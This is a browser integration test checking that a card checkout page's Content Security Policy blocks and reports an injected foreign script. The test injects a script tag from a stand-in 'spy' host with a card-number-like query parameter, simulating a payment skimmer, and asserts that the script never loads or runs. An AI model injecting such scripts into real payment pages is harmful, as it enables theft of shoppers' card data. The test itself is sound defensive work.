import { expect, test } from "vitest";
import { cardShop, orderCard } from "#tests/integration/cards/support.ts";
import { sharedApp } from "#tests/support/app.ts";
import { allowTroubles, openPage } from "#tests/support/clients/browser.ts";
import { until } from "#tests/support/until.ts";

test("a browser reports a foreign script on the card's page, which did not run", async () => {
  const app = await sharedApp();
  const { product } = await cardShop();
  const saleId = await orderCard(product.id);
  const page = await openPage({ width: 360, url: app.url });
  await page.goto(`/checkout/cartao/${saleId}`);
  await page.locator("form[data-card][data-ready]").waitFor();
  allowTroubles(/Content Security Policy|espiao\.example/);
  // Only what the browser would send is requested.
  const requested: string[] = [];
  await page.route(/espiao\.example/, (route) => {
    requested.push(route.request().url());
    return route.fulfill({ contentType: "text/javascript", body: "window.ran = true" });
  });
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.src = "https://espiao.example/x.js?numero=1";
    document.head.append(script);
  });
  const reported = () =>
    app.log().find(({ msg, blocked }) => /policy blocked/.test(`${msg}`) && `${blocked}`.includes("espiao"));
  await until(() => reported() !== undefined, { what: "the report" });
  expect(reported()).toMatchObject({ directive: "script-src-elem", blocked: "https://espiao.example" });
  expect(requested).toEqual([]);
  expect(await page.evaluate(() => "ran" in window)).toBe(false);
});
